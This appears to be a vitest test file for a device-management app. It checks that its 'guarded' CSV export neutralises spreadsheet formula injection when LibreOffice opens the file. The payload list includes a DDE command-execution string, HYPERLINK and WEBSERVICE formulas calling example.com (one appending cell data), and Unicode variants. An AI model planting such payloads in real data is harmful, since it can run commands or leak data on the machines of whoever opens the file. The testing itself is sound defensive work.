import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { deviceColumns } from '#shared/domain/device.ts';
import { exportDevices } from '../../src-main/desk/features/csv/export-devices.ts';
import { knoxDevice, makeTestFolder, openFilledWorkspace } from '../desk/db/open-test-workspace.ts';
import { endOfJob, makeTestServices } from '../desk/features/make-test-services.ts';
import { readZip } from '../helpers/read-zip.ts';

/** What a reseller could put into a field of a device to have it run on the machine of whoever opens the export. */
const payloads = [
  '=1+1',
  '=HYPERLINK("https://example.com/?"&A1,"Open")',
  '=WEBSERVICE("https://example.com")',
  "=cmd|'/C calc'!A1",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1\n=2+2',
  '"=1+1"',
];

const missing =
  spawnSync('soffice', ['--version']).error === undefined ? null : 'LibreOffice is not installed (npm run setup)';

/** Writes every payload in every free field of a device, as an export makes it. */
async function exported(form: 'guarded' | 'raw'): Promise<string> {
  const devices = payloads.map((text, n) =>
    knoxDevice(n, { model: text, userName: text, tags: text, orderId: text, resellerName: text }),
  );
  const test = makeTestServices(await openFilledWorkspace(devices));
  const file = join(makeTestFolder(), `${form}.csv`);
  const columns = [...deviceColumns];
  const plain = { attributes: [], leaving: '', scope: { kind: 'all' } } as const;
  const { jobId } = await exportDevices(test.services, {
    ...plain,
    attributes: [],
    columns,
    headers: columns,
    form,
    file,
  });
  expect(await endOfJob(test, jobId)).toMatchObject({ ok: true });
  return file;
}

/** Converts as a person opens it: comma, UTF-8, every cell as it comes, blanks trimmed or not, formulas evaluated. */
function sheetOf(file: string, trim: boolean): string {
  const folder = makeTestFolder();
  const filter = `CSV:44,34,76,1,,0,false,true,false,false,${trim},-1,true`;
  const run = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=${pathToFileURL(join(folder, 'user')).href}`,
      ...['--headless', '--norestore', `--infilter=${filter}`, '--convert-to', 'xlsx', '--outdir', folder, file],
    ],
    { timeout: 120_000, encoding: 'utf8' },
  );
  expect(run.status, run.stderr).toBe(0);
  const workbook = readZip(readFileSync(join(folder, basename(file).replace('.csv', '.xlsx'))));
  return workbook.get('xl/worksheets/sheet1.xml') ?? '';
}

describe('LibreOffice, told to evaluate formulas, opens an export (S40)', () => {
  for (const trim of [false, true]) {
    it(`made for spreadsheets and finds none, blanks ${trim ? 'trimmed' : 'kept'}`, async ({ skip }) => {
      skip(missing !== null, missing ?? '');
      const sheet = sheetOf(await exported('guarded'), trim);
      expect(sheet.match(/<row /g)).toHaveLength(payloads.length + 1);
      expect(sheet).not.toMatch(/<f[ >]/);
    });
  }

  it('made for other programs and finds some: else the test above would prove nothing', async ({ skip }) => {
    skip(missing !== null, missing ?? '');
    expect((sheetOf(await exported('raw'), false).match(/<f[ >]/g) ?? []).length).toBeGreaterThan(10);
  });
});
